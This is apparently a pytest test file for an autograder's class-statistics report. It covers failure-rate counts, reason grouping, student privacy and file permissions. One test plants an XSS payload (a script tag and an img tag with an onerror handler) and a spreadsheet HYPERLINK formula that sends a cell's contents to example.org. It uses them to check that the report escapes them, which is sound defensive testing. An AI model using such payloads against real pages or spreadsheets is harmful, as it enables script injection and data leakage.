"""The class report (``python -m autograder stats``, autograder/insight/): the CSV's figures against
counts made here from what the synthetic class was given (tests/synthetic_class.py), grouped
reasons, privacy (no student named unless --names; a cell of fewer than 5 students shows counts
only; the report is the instructor's alone), a hostile reason escaped, one student, nobody."""

import csv
import io
import re
import stat
import time
from html.parser import HTMLParser

import pytest
from synthetic_class import ASSIGNMENT, NOTEBOOK, lost, reason, student_id, synthetic_class, ungraded, written_score

from autograder import __main__ as commands
from autograder.insight.reasons import group_reason, names_pattern, without_names
from autograder.insight.report import write_report

CLASS = 40


def rows(csv_path):
    return {row["grade_id"]: row for row in csv.DictReader(io.StringIO(csv_path.read_text()))}


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory):
    root, tests, written = synthetic_class(tmp_path_factory.mktemp("stats") / "course", CLASS)
    csv_path, html_path, lines = write_report(ASSIGNMENT, root)
    return root, tests, written, rows(csv_path), html_path.read_text(), lines


def test_reasons_that_differ_only_in_numbers_shapes_and_dtypes_are_one_group():
    assert group_reason("expected (2, 3), got (3, 2)") == group_reason("expected (4, 5), got (5, 4)")
    assert group_reason("got torch.Size([4, 10]), not torch.Size([4])") == "got SHAPE, not SHAPE"
    assert group_reason("dtype torch.float64 != torch.float32") == group_reason("dtype torch.int64 != torch.float16")
    assert group_reason("value -1.5e-3 at index 7") == "value N at index N"
    assert group_reason("tensor([1., 2.]) vs tensor([0.5, 3., 4.])") == "tensor([N, …]) vs tensor([N, …])"
    assert group_reason("conv2d is missing") != group_reason("linear is missing")
    assert without_names("s0001 wrote: Ada was here (Adam)", names_pattern({"s0001", "ada"})) == \
        "<student> wrote: <student> was here (Adam)"


def test_each_cells_figures_are_the_counts_of_what_the_class_was_given(synthetic):
    _, tests, written, found, _, _ = synthetic
    graded = [n for n in range(CLASS) if not ungraded(n)]
    for cell, grade_id in enumerate(tests):
        row = found[grade_id]
        losers = [n for n in graded if lost(n, cell)]
        assert (int(row["graded"]), int(row["lost_points_count"])) == (len(graded), len(losers))
        assert float(row["failure_rate"]) == pytest.approx(len(losers) / len(graded), abs=1e-4)
        if losers:
            groups = {}
            for n in losers:
                key = "AssertionError: <student> <student> was here" if cell % 4 == 3 else \
                    "expected shape SHAPE, got SHAPE"
                groups[key] = groups.get(key, 0) + 1
            assert (row["top_reason"], int(row["top_reason_count"])) == max(groups.items(), key=lambda kv: kv[1])
    for grade_id in written:
        scored = [written_score(n) for n in graded if written_score(n) is not None]
        row = found[grade_id]
        assert row["kind"] == "written" and int(row["graded"]) == len(scored)
        assert float(row["mean_score"]) == pytest.approx(sum(scored) / len(scored), abs=1e-4)
        assert int(row["lost_points_count"]) == sum(1 for s in scored if s < 2)


def test_a_hidden_test_counts_who_passed_its_visible_test_and_failed_it(synthetic):
    _, tests, _, found, _, _ = synthetic
    graded = [n for n in range(CLASS) if not ungraded(n)]
    hidden = [g for g in tests if found[g]["kind"] == "hidden"]
    assert hidden and all(found[g]["visible_pass_hidden_fail"] != "" for g in hidden)
    for grade_id in hidden:
        cell = tests.index(grade_id)
        visible = cell - 1                        # this course: each hidden test follows its visible one
        assert found[tests[visible]]["kind"] == "visible"
        expected = sum(1 for n in graded if lost(n, cell) and not lost(n, visible))
        assert int(found[grade_id]["visible_pass_hidden_fail"]) == expected
    assert all(found[g]["visible_pass_hidden_fail"] == "" for g in tests if found[g]["kind"] == "visible")


def test_discrimination_is_the_correlation_with_the_rest_of_the_score(synthetic):
    root, tests, _, found, _, _ = synthetic
    from autograder.insight.cell_stats import pearson
    from autograder.insight.class_scores import read_class

    scores = read_class(ASSIGNMENT, root)
    grade_id = max(tests, key=lambda g: float(found[g]["failure_rate"]))
    key = (NOTEBOOK, grade_id)
    students = sorted(scores.scores)
    mine = [scores.scores[s][key] for s in students]
    rest = [sum(v for k, v in scores.scores[s].items() if k != key) for s in students]
    assert float(found[grade_id]["discrimination"]) == pytest.approx(pearson(mine, rest), abs=1e-4)
    assert pearson([1, 2, 3], [2, 4, 6]) == pytest.approx(1.0) and pearson([1, 1, 1], [1, 2, 3]) is None


def test_the_report_names_nobody_unless_asked(synthetic, tmp_path):
    root, _, _, found, page, lines = synthetic
    text = (root / "reports" / ASSIGNMENT / "stats.csv").read_text() + page + "\n".join(lines)
    assert not re.search(r"s00\d\d|Ada00|Lovelace", text)
    assert commands_in(root, ["stats", ASSIGNMENT, "--names"]) == 0
    named = (root / "reports" / ASSIGNMENT / "stats.csv").read_text()
    assert "lost_by" in named.splitlines()[0] and student_id(0) in named
    for path in (root / "reports", root / "reports" / ASSIGNMENT):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700
    for name in ("stats.csv", "stats.html"):
        assert stat.S_IMODE((root / "reports" / ASSIGNMENT / name).stat().st_mode) == 0o600


def commands_in(root, argv):
    """``python -m autograder ARGV`` for the course at ``root``."""
    original = commands.COURSE_ROOT
    commands.COURSE_ROOT = root
    try:
        return commands.main(argv)
    finally:
        commands.COURSE_ROOT = original


def test_a_class_of_fewer_than_five_gets_counts_only_and_an_empty_one_a_clear_error(tmp_path, capsys):
    root, tests, _ = synthetic_class(tmp_path / "one", 1)
    csv_path, html_path, _ = write_report(ASSIGNMENT, root)
    row = rows(csv_path)[tests[0]]
    assert row["graded"] == "1" and row["lost_points_count"] in ("0", "1")
    assert row["failure_rate"] == row["mean_score"] == row["top_reason"] == row["discrimination"] == ""
    assert "<img" in html_path.read_text()                     # the total histogram still draws
    empty, _, _ = synthetic_class(tmp_path / "none", 0)
    assert commands_in(empty, ["stats", ASSIGNMENT]) == 1
    err = capsys.readouterr().err
    assert "no submission of 02_linear_activation has been graded" in err and "autograder grade" in err
    assert not (empty / "reports").exists()
    assert commands_in(empty, ["stats", "99_nothing"]) == 1
    assert "the course has no assignment '99_nothing': it has 02_linear_activation" in capsys.readouterr().err


def test_a_hostile_reason_reaches_the_page_as_text(tmp_path):
    import json

    root, tests, _ = synthetic_class(tmp_path / "hostile", 6)
    for n in range(6):
        path = root / "autograded" / student_id(n) / ASSIGNMENT / "results.json"
        if path.exists():
            data = json.loads(path.read_text())
            for test in data["notebooks"][0]["tests"]:
                test["reason"] = '<script>window.x=1</script><img src=x onerror="alert(1)">' if test["reason"] else ""
                if test["grade_id"] == tests[0] and test["reason"]:
                    test["reason"] = '=HYPERLINK("http://example.org/?"&A1)'      # a formula for a spreadsheet
            path.write_text(json.dumps(data))
    csv_path, html_path, _ = write_report(ASSIGNMENT, root)
    assert rows(csv_path)[tests[0]]["top_reason"].startswith("'=HYPERLINK(")    # text, not a formula
    page = html_path.read_text()
    tags = Tags()
    tags.feed(page)
    assert "script" not in {tag for tag, _ in tags.found}
    assert all(not name.startswith("on") for _, attrs in tags.found for name, _ in attrs)
    assert all(dict(attrs)["src"].startswith("data:image/png;base64,") for tag, attrs in tags.found if tag == "img")
    assert "&lt;script&gt;window.x=N&lt;/script&gt;" in page          # shown, as text


class Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


@pytest.mark.slow
def test_a_class_of_500_is_reported(tmp_path):
    """The issue's scale: 500 students (the benchmark, benchmarks/stats_speed.py, times it)."""
    root, tests, _ = synthetic_class(tmp_path / "big", 500)
    started = time.monotonic()
    csv_path, _, lines = write_report(ASSIGNMENT, root)
    print(f"500 students: {time.monotonic() - started:.1f} s")
    found = rows(csv_path)
    graded = [n for n in range(500) if not ungraded(n)]
    assert int(found[tests[0]]["graded"]) == len(graded) and lines[0].startswith(f"{ASSIGNMENT}: {len(graded)} graded")
    assert int(found[tests[0]]["lost_points_count"]) == sum(1 for n in graded if lost(n, 0))
    assert reason(3, 0) != reason(5, 0) and found[tests[0]]["top_reason"] == "expected shape SHAPE, got SHAPE"
